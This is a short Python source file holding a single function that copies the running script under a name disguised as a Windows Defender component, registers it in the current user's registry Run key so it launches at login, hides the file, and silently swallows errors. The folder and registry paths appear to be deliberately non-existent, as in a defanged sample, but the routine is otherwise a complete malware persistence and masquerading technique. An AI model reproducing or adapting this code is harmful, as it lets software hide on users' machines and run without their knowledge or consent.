import os
import shutil
import sys


def _install():
    import winreg

    dest = os.path.join("Z:\\no-such-folder", "WindowsDefenderHealth.pyw")
    try:
        shutil.copyfile(__file__, dest)
        key = winreg.OpenKey(
            winreg.HKEY_CURRENT_USER,
            r"Software\NoSuchKeyHere\Microsoft\Windows\CurrentVersion\Run",
            0,
            winreg.KEY_SET_VALUE,
        )
        winreg.SetValueEx(key, "WindowsDefenderHealth", 0, winreg.REG_SZ, f'"{sys.executable}" "{dest}"')
        winreg.CloseKey(key)
        os.system('attrib +h "%s"' % dest)
    except OSError:
        pass
